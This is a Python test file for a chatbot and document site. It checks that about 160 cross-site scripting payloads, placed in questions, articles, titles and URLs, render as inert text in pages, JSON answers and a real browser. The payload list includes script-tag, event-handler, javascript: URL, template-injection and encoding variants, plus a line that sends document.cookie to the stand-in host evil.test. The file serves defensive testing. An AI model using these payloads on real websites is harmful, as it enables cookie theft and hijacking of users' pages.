"""What strangers put into questions, articles, titles and addresses stays text in every page."""

import re
from collections.abc import Iterator, Set
from html.parser import HTMLParser
from urllib.parse import quote, urlsplit

import pytest
from fastapi.testclient import TestClient
from playwright.sync_api import Browser, expect
from support.embedding import ask, visiting
from support.serving import serving

from bot.answer import Answer, Citation, extracted_text
from bot.live import Live
from bot.service import Service
from bot.settings import ApiSettings, Settings
from bot.web.app import create_app
from bot.web.messages import answer_message, bot_message, plain_text, question_message
from corpus import Document, Passage, Section
from index import Hit
from index.snapshot import build

CODE = [
    "alert(1)",
    "fetch('//evil.test/'+document.cookie)",
    "top.location='//evil.test'",
    "import('//evil.test/x.js')",
]
SHAPES = [
    "<script>{}</script>",
    "</script><script>{}</script>",
    '"><script>{}</script>',
    "'><img src=x onerror={}>",
    "<img src=x onerror={}//",
    "<svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    '<a href="javascript:{}">x</a>',
    "<a href='data:text/html,<script>{}</script>'>x</a>",
    "<form action=//evil.test><button formaction='javascript:{}'>x</button></form>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<object data='javascript:{}'></object>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href='javascript:{}'>",
    "<style>*{{background:url('javascript:{}')}}</style>",
    "<template><script>{}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[<img src=x onerror={}>]]>",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "{{% raw %}}<script>{}</script>{{% endraw %}}",
    "[x](javascript:{})",
    "![x](http://evil.test/?{})",
    "[x]: javascript:{}",
    "<http://evil.test/{}>",
    "`<script>{}</script>`",
    "\u2028<script>{}</script>\u2029",
    "＜script＞{}＜/script＞<script>{}</script>",
    "<scr\x00ipt>{}</scr\x00ipt>",
    "&lt;script&gt;{}&lt;/script&gt;&#60;script&#62;",
    "%3Cscript%3E{}%3C/script%3E",
    '" onmouseover="{}" x="',
    "' style='background:url(//evil.test/{})' x='",
    'x" data-x="{}" class="cw-ask',
]
PAYLOADS = [
    shape.replace("{}", code).replace("{{", "{").replace("}}", "}")
    for shape in SHAPES
    for code in CODE
]
INERT = {
    "html", "head", "meta", "title", "link", "body", "header", "nav", "main", "footer", "section", "article", "aside",
    "div", "span", "p", "h1", "h2", "h3", "ul", "ol", "li", "dl", "dt", "dd", "a", "q", "cite", "sup", "strong",
    "mark", "details", "summary", "button", "br", "time", "small", "em", "b", "i", "table", "tbody", "tr", "th", "td",
}  # fmt: skip
SEARCH = {"form", "label", "input"}
"""What the list of documents has to search it."""


class Elements(HTMLParser):
    """Fails where HTML has an element that acts, a handler, or an address of another site.

    `form` are the elements that the page has of itself to search it.
    """

    def __init__(self, html: str, payload: str, form: Set[str] = frozenset()) -> None:
        super().__init__()
        self._payload = payload
        self._form = form
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        is_own_script = tag == "script" and (given.get("src") or "").startswith("/ui/")
        assert tag in INERT | self._form or is_own_script, (tag, self._payload)
        assert not [
            name
            for name in given
            if name.startswith("on") or name in ("style", "srcdoc", "formaction")
        ]
        for name in ("href", "src", "action"):
            address = urlsplit(given.get(name) or "")
            assert address.scheme in ("", "http", "https") and address.netloc in (
                "",
                "127.0.0.1",
            ), self._payload


def test_there_are_enough_of_them() -> None:
    assert len(set(PAYLOADS)) >= 150


@pytest.mark.parametrize("payload", PAYLOADS)
def test_messages_hold_nothing_that_acts(payload: str) -> None:
    text = f"甲{payload}乙。"
    section = Section(payload, 0, len(text))
    document = Document("d", payload, text, payload, published=payload, sections=(section,))
    cited = (Citation(document, 0, len(text)),)
    hits = (Hit(Passage(document, 0, len(text)), 1.0),)
    answers = [
        Answer(
            payload, "answered", extracted_text(cited), hits, cited, text[:2], notices=(payload,)
        ),
        Answer(payload, "absent", payload, hits, suggestions=(payload,)),
    ]
    messages = [answer_message(answer, "zh", "0" * 32) for answer in answers]
    for message in (*messages, question_message(payload, "zh"), bot_message(payload, "en")):
        Elements(message, payload)
    assert plain_text(question_message(payload, "zh")) == " ".join(payload.split())


@pytest.fixture(scope="module")
def client() -> Iterator[TestClient]:
    documents = []
    for n, payload in enumerate(PAYLOADS):
        text = f"{payload}\n{payload}"
        section = Section(payload, 0, len(payload) + 1)
        documents.append(
            Document(
                f"d{n}",
                payload,
                text,
                payload,
                tags=(payload,),
                authors=(payload,),
                sections=(section,),
            )
        )
    app = create_app(Live(Service(build(documents, None), None, Settings())))
    with TestClient(app, base_url="http://127.0.0.1") as client:
        yield client


@pytest.mark.slow
def test_pages_of_articles_hold_nothing_that_acts(client: TestClient) -> None:
    for n, payload in enumerate(PAYLOADS):
        Elements(client.get(f"/read/d{n}?start=0&end=5&lang={quote(payload)}").text, payload)
        Elements(client.get(f"/read/{quote(payload, safe='')}").text, payload)
    for number in (1, 2):
        Elements(client.get(f"/documents?page={number}").text, "documents", SEARCH)
    for payload in PAYLOADS[::4]:
        page = client.get("/documents", params={"q": payload, "sort": payload, "lang": payload})
        Elements(page.text, payload, SEARCH)


def test_answers_are_json_and_are_not_taken_for_pages(client: TestClient) -> None:
    for payload in PAYLOADS[::8]:
        answer = client.post("/api/search", json={"question": payload[:500], "k": 3})
        assert answer.headers["content-type"] == "application/json"
        assert answer.headers["x-content-type-options"] == "nosniff"


@pytest.mark.browser
def test_an_article_of_payloads_does_nothing_in_a_browser(browser: Browser) -> None:
    """In an answer, a passage and the article: a dialog or a request would fail the tab."""
    chosen = PAYLOADS[::13]
    parks = [f"{name}公园" for name in "梅李桃杏桂兰菊荷槐柳榆枫松"]
    documents = [
        Document(
            f"e{n}", f"{park}{payload}", f"{park}有树木{1000 + n}棵{payload}。", tags=(payload,)
        )
        for n, (park, payload) in enumerate(zip(parks, chosen, strict=True))
    ]
    app = create_app(
        Live(Service(build(documents, None), None, Settings(api=ApiSettings(per_minute=1000))))
    )
    with serving(app) as address, visiting(browser) as page:
        bot = address.replace("127.0.0.1", "bot.test").rstrip("/")
        page.goto(f"{bot}/embed?mode=full")
        for n, (park, payload) in enumerate(zip(parks, chosen, strict=True)):
            message = ask(page, f"{park}有树木多少棵？")
            expect(message.locator(".cw-text")).to_contain_text(
                re.compile(rf"{1000 + n}棵\s*{re.escape(payload.split()[0][:1])}")
            )
        message.locator("a.cw-mark").first.click()
        expect(page.locator("#cw-source mark")).to_contain_text(payload.split()[0][:1])
        for n, park in enumerate(parks):
            page.goto(f"{bot}/read/e{n}?start=0&end=5")
            expect(page.locator("h1").first).to_contain_text(park)
        page.goto(bot)
        page.get_by_role("textbox", name="请输入问题").fill(f"{park}有树木多少棵？")
        page.keyboard.press("Enter")
        expect(page.locator(".cw-text")).to_contain_text(payload.split()[0][:1])
